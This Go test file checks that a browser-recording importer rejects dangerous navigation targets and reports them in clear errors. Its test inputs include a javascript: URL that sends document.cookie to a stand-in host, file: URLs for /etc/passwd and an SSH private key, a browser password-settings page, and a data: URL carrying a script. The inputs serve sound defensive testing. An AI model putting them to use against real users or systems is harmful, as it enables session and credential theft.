package importer_test

import (
	"strings"
	"testing"

	"github.com/reprise-qa/reprise/backend/importer"
)

// devtools is a DevTools Recorder recording that starts at start and then
// navigates to each of gotos.
func devtools(start string, gotos ...string) []byte {
	steps := []string{`{"type":"setViewport","width":1280,"height":800,"deviceScaleFactor":1,"isMobile":false,"hasTouch":false,"isLandscape":false}`,
		`{"type":"navigate","url":"` + start + `"}`,
		`{"type":"click","selectors":[["aria/Sign in"],["#go"]],"offsetX":1,"offsetY":1}`}
	for _, g := range gotos {
		steps = append(steps, `{"type":"navigate","url":"`+g+`"}`)
	}
	return []byte(`{"title":"flow","steps":[` + strings.Join(steps, ",") + `]}`)
}

func TestImportRefusesAddressesReplayNeverOpens(t *testing.T) {
	for _, c := range []struct {
		name  string
		data  []byte
		where string
		url   string
	}{
		{"javascript: navigation", devtools("https://shop.example.com/", "javascript:fetch('//evil.example/'+document.cookie)"), "step 2 (s2)", "javascript:fetch"},
		{"file: start", devtools("file:///etc/passwd"), "the start URL", "file:///etc/passwd"},
		{"browser settings", devtools("https://shop.example.com/", "chrome://settings/passwords"), "step 2 (s2)", "chrome://settings/passwords"},
		{"data: page", devtools("https://shop.example.com/", "data:text/html,<script>alert(1)</script>"), "step 2 (s2)", "data:text/html"},
		{"view-source", devtools("https://shop.example.com/", "view-source:https://shop.example.com/"), "step 2 (s2)", "view-source:"},
		{"Reprise JSON with a file: goto", []byte(`{"version":1,"id":"x","name":"x","startUrl":"https://shop.example.com/","steps":[{"id":"s1","action":"goto","url":"file:///home/ci/.ssh/id_rsa"}]}`), "step 1 (s1)", "file:///home/ci/.ssh/id_rsa"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, err := importer.Import(c.data, "recording.json")
			if err == nil {
				t.Fatalf("imported silently: start %s, %d steps", res.Trajectory.StartURL, len(res.Trajectory.Steps))
			}
			msg := err.Error()
			if !strings.HasPrefix(msg, "recording.json") || !strings.Contains(msg, c.where) || !strings.Contains(msg, c.url) || !strings.Contains(msg, "never imports") {
				t.Fatalf("want an error naming the file, %s and %s, got: %v", c.where, c.url, err)
			}
		})
	}
	if _, err := importer.Import(devtools("https://shop.example.com/", "https://shop.example.com/cart", "about:blank"), "ok.json"); err != nil {
		t.Fatalf("a recording of web pages should import: %v", err)
	}
}
